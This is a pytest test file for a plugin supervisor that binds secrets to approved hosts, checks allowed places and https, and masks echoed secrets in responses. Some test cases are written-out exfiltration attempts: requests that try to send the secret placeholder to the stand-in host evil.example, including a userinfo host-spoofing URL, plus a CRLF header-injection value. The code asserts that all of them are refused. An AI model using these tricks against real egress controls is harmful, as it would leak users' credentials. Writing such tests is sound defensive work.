"""A bound secret reaches its hosts and nobody else, the plugin least of all."""

import html
import json
from base64 import b64encode
from urllib.parse import parse_qs, quote, quote_plus, unquote, urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from supervisor.calls.bound_secrets import BoundSecrets, SecretNotUsable
from supervisor.egress import EgressRequest
from supervisor.errors import ModuleRefused
from supervisor.manifest import Manifest, parse_manifest

SECRET = "https://hooks.slack.com/services/T000/B000/seeded"
ODD = 'a "b"\\c&d/é+<e>'
MOST = 1 << 20
HOOK = "https://hooks.slack.com/x"
EVERYWHERE = ["header", "path", "query", "body"]


def manifest(**field: object) -> Manifest:
    raw = {
        "id": "com.example.bound",
        "name": "Bound",
        "version": "1.0.0",
        "description": "Keeps a secret.",
        "events": ["ticket.created"],
        "permissions": {"http": {"allowed_hosts": ["hooks.slack.com", "evil.example"]}},
        "config_schema": {
            "token": {"type": "string", "secret": True, "bind": ["hooks.slack.com"], **field}
        },
    }
    return parse_manifest(json.dumps(raw).encode())


@pytest.fixture
def bound() -> BoundSecrets:
    return BoundSecrets(manifest(), {"token": SECRET})


def placeholder(bound: BoundSecrets) -> str:
    return str(bound.config["token"])


def test_the_guest_gets_a_placeholder(bound: BoundSecrets) -> None:
    assert SECRET not in placeholder(bound)
    assert placeholder(bound) != str(BoundSecrets(manifest(), {"token": SECRET}).config["token"])


def test_the_secret_takes_the_placeholders_place_in_url_headers_and_body() -> None:
    bound = BoundSecrets(manifest(bind_in=EVERYWHERE), {"token": SECRET})
    mark = placeholder(bound)
    filled = bound.fill(
        EgressRequest(url=mark, headers={"Authorization": f"Bearer {mark}"}, body=f"[{mark}]"), MOST
    )
    assert filled.url == SECRET
    assert filled.headers == {"Authorization": f"Bearer {SECRET}"}
    assert filled.body == f"[{SECRET}]"


@pytest.mark.parametrize(
    ("place", "make"),
    [
        ("header", lambda mark: EgressRequest(url=HOOK, headers={"X-Key": mark})),
        ("path", lambda mark: EgressRequest(url=f"https://hooks.slack.com/{mark}")),
        ("query", lambda mark: EgressRequest(url=f"{HOOK}?key={mark}")),
        ("body", lambda mark: EgressRequest(url=HOOK, method="POST", body=mark)),
    ],
)
def test_a_secret_goes_into_the_places_that_the_manifest_names(place, make) -> None:
    for named in EVERYWHERE:
        bound = BoundSecrets(manifest(bind_in=[named]), {"token": "seeded-token"})
        request = make(placeholder(bound))
        if named == place:
            assert "seeded-token" in str(bound.fill(request, MOST))
        else:
            with pytest.raises(
                SecretNotUsable, match=f"in the {place} .* allows it only in: {named}"
            ):
                bound.fill(request, MOST)


def test_headers_alone_where_the_manifest_names_no_place() -> None:
    assert manifest().config_schema["token"].bind_in == ("header",)


def test_no_manifest_can_put_a_secret_into_the_host_or_the_name_of_a_header() -> None:
    bound = BoundSecrets(manifest(bind_in=EVERYWHERE), {"token": "hooks.slack.com"})
    mark = placeholder(bound)
    for request in (
        EgressRequest(url=f"https://{mark}/"),
        EgressRequest(url=HOOK, headers={mark: "x"}),
    ):
        with pytest.raises(SecretNotUsable, match=r"host|name of a header"):
            bound.fill(request, MOST)


@pytest.mark.parametrize("url", ["http://hooks.slack.com/x", "HTTP://hooks.slack.com/x"])
def test_a_secret_goes_over_https_alone(bound: BoundSecrets, url: str) -> None:
    request = EgressRequest(url=url, headers={"X-Key": placeholder(bound)})
    with pytest.raises(SecretNotUsable, match="only over https"):
        bound.fill(request, MOST)


def test_a_secret_is_written_as_its_place_needs_it() -> None:
    bound = BoundSecrets(manifest(bind_in=EVERYWHERE), {"token": ODD})
    mark = placeholder(bound)
    json_body = {"key": mark, "list": [mark]}
    filled = bound.fill(
        EgressRequest(
            url=f"https://hooks.slack.com/a/{mark}/b?key={mark}&x=1",
            method="POST",
            headers={"Content-Type": "application/json"},
            body=json.dumps(json_body),
        ),
        MOST,
    )
    assert json.loads(filled.body or "") == {"key": ODD, "list": [ODD]}
    url = urlsplit(filled.url)
    assert unquote(url.path) == f"/a/{ODD}/b"
    assert parse_qs(url.query) == {"key": [ODD], "x": ["1"]}
    form = bound.fill(
        EgressRequest(
            url=HOOK,
            method="POST",
            headers={"content-type": "application/x-www-form-urlencoded"},
            body=f"key={mark}&x=1",
        ),
        MOST,
    )
    assert parse_qs(form.body or "") == {"key": [ODD], "x": ["1"]}


@pytest.mark.parametrize("secret", ["two\r\nlines: x", "tab\tin it", "\u20ac uro"])
def test_a_secret_that_no_header_can_carry_is_refused(secret: str) -> None:
    bound = BoundSecrets(manifest(), {"token": secret})
    with pytest.raises(SecretNotUsable, match="headers can't contain") as refused:
        bound.fill(EgressRequest(url=HOOK, headers={"X-Key": placeholder(bound)}), MOST)
    assert secret not in str(refused.value)


def test_no_request_grows_without_bound() -> None:
    bound = BoundSecrets(manifest(bind_in=["body"]), {"token": "x" * 60_000})
    body = placeholder(bound) * 6_000
    with pytest.raises(SecretNotUsable, match="too large"):
        bound.fill(EgressRequest(url=HOOK, method="POST", body=body), MOST)


@given(st.text(min_size=8, max_size=40).filter(lambda text: text.strip() == text))
def test_an_answer_that_repeats_a_secret_holds_the_placeholder(secret: str) -> None:
    bound = BoundSecrets(manifest(), {"token": secret})
    data = secret.encode()
    forms = [
        secret,
        json.dumps({"you sent": secret}),
        json.dumps(secret, ensure_ascii=False),
        quote(secret, safe=""),
        quote_plus(secret),
        html.escape(secret),
        b64encode(data).decode().rstrip("="),
        b64encode(b"user:" + data).decode(),
        data.hex(),
        data.hex().upper(),
    ]
    for form in forms:
        answer = bound.hide(b"<" + form.encode() + b">")
        assert placeholder(bound).encode() in answer
        assert data not in answer


def test_an_answer_without_a_secret_stays_as_it_is(bound: BoundSecrets) -> None:
    body = bytes(range(256)) * 100
    assert bound.hide(body) == body


@pytest.mark.parametrize(
    "request_to_elsewhere",
    [
        lambda mark: EgressRequest(url="https://evil.example/", body=mark),
        lambda mark: EgressRequest(url="https://evil.example/", headers={"X-Key": mark}),
        lambda mark: EgressRequest(url="https://evil.example/", headers={mark: "x"}),
        lambda mark: EgressRequest(url=f"https://evil.example/?q={mark}"),
        lambda mark: EgressRequest(url=f"https://hooks.slack.com@evil.example/{mark}"),
        lambda mark: EgressRequest(url=f"not a url {mark}"),
    ],
)
def test_a_request_to_another_host_is_refused(bound: BoundSecrets, request_to_elsewhere) -> None:
    with pytest.raises(SecretNotUsable) as refused:
        bound.fill(request_to_elsewhere(placeholder(bound)), MOST)
    assert SECRET not in str(refused.value)


def test_a_request_without_a_placeholder_passes_unchanged(bound: BoundSecrets) -> None:
    request = EgressRequest(url="https://evil.example/", body="nothing")
    assert bound.fill(request, MOST) is request


def test_bind_needs_a_secret() -> None:
    with pytest.raises(ModuleRefused, match=r"config_schema\.token\.bind"):
        manifest(secret=False)


def test_bind_names_declared_hosts_only() -> None:
    with pytest.raises(ModuleRefused, match=r"config_schema\.token\.bind\[0\].*allowed_hosts"):
        manifest(bind=["elsewhere.example"])


def test_a_place_needs_a_host() -> None:
    with pytest.raises(ModuleRefused, match=r"config_schema\.token\.bind_in"):
        manifest(bind=[], bind_in=["body"])


def test_a_place_is_one_of_four() -> None:
    with pytest.raises(ModuleRefused, match=r"config_schema\.token\.bind_in\[0\]"):
        manifest(bind_in=["cookie"])
